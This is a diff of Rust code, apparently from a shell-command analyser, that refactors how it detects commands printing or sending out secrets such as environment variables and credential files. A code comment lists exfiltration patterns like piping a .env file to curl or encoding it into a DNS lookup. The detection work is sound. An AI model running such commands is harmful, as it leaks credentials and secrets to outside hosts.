@@ -5,7 +5,7 @@ use midrail_core::Severity;
 
 use super::super::condition::does;
 use super::super::invocation::{Arg, Folder, Invocation};
-use super::super::programs::{self, Hosts, Tag};
+use super::super::programs::{Hosts, Tag};
 use super::super::scope::Scope;
 use super::super::{danger, files, hosts};
 use super::flow::command_line;
@@ -19,17 +19,16 @@ impl Walk {
         if scope.is_remote {
             return None;
         }
-        let program = invocation.program.as_str();
         let args = invocation.args.as_slice();
         let words: Vec<&str> = args.iter().map(|arg| arg.text.as_str()).collect();
         let prints = |subcommand: &&str| {
             let mut given = words.iter();
             subcommand.split_whitespace().all(|word| given.next() == Some(&word))
         };
-        if programs::row(program).secrets.iter().any(prints) {
+        if invocation.row().secrets.iter().any(prints) {
             return Some(Secret::Token);
         }
-        match programs::family(program) {
+        match invocation.family() {
             "env" | "printenv" if words.iter().all(|word| word.starts_with('-')) => Some(Secret::Content),
             "declare" | "typeset" | "export" | "set"
                 if words.iter().all(|word| word.starts_with('-') && !word.contains(['f', 'F'])) =>
@@ -47,7 +46,7 @@ impl Walk {
                 let is_secret = args.iter().any(|arg| self.is_secret_file(arg, scope));
                 is_secret.then_some(Secret::Content)
             }
-            _ if programs::is(program, Tag::PrintsFiles) => {
+            _ if invocation.is(Tag::PrintsFiles) => {
                 let mut touched = files::touched(invocation).into_iter();
                 let is_secret =
                     touched.any(|file| file.is_read && self.is_secret_file(&Arg::known(&*file.path), scope));
@@ -72,7 +71,7 @@ impl Walk {
         };
         // `cat .env | xargs curl -d`, `dig $(base64 .env).example.com`, `curl -F f=@copy`
         let contacts = || {
-            let row = programs::row(program);
+            let row = invocation.row();
             row.hosts != Hosts::None || !row.uploads.is_empty() || does(invocation, Tag::Sends)
         };
         let takes_input = invocation.has_more_args || args.iter().any(|arg| arg.text.contains("{}"));
@@ -154,7 +153,7 @@ impl Walk {
 
     /// Remembers the files that a program makes from credentials: archives, encrypted and compressed files, copies.
     pub(super) fn keep_secret_copies(&mut self, invocation: &Invocation, scope: &Scope) {
-        if scope.is_remote || !COPIERS.contains(&programs::family(&invocation.program)) {
+        if scope.is_remote || !COPIERS.contains(&invocation.family()) {
             return;
         }
         let key_value = |arg: &Arg, key: &str| arg.text.strip_prefix(key).map(str::to_owned);
